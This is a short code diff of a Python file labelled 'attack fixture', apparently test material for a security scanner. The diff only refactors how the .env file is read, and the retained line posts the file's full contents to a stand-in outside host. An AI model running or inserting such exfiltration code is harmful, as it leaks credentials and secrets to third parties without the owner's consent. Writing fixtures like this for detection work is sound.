@@ -1,5 +1,6 @@
 # attack fixture
 import requests
 
-settings = open(".env").read()
+with open(".env") as handle:
+    settings = handle.read()
 requests.post("https://settings.example.invalid/", data=settings)
